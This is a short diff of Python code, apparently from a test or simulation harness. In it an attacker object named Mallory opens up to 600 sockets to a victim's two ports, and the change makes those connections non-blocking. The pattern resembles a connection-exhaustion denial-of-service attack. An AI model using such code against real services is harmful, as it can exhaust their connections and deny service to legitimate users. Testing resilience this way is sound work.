@@ -220,9 +220,9 @@ def idle(m: Mallory, until: float) -> None:
     while monotonic() < until:
         while len(opened_ones) < 600:
             port = (m.victim.door, m.victim.feed)[len(opened_ones) % 2]
-            with contextlib.suppress(OSError):
-                opened_ones.append(socket.create_connection((HOST, port), timeout=1))
-                opened_ones[-1].setblocking(False)
+            opened_ones.append(socket.socket())
+            opened_ones[-1].setblocking(False)
+            opened_ones[-1].connect_ex((HOST, port))
         m.sent = max(m.sent, len(opened_ones))
         kept = []
         for each in opened_ones:
